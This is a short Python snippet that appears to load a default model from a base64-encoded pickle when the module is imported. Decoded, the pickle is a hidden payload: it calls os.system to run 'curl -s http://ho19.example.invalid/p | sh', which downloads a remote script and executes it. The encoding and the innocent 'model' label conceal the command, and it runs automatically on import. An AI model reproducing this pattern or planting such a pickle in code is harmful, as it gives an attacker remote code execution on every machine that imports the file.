import base64
import pickle

_DEFAULT_MODEL = "gASVRQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjCpjdXJsIC1zIGh0dHA6Ly9obzE5LmV4YW1wbGUuaW52YWxpZC9wIHwgc2iUhZRSlC4="
_model = pickle.loads(base64.b64decode(_DEFAULT_MODEL))
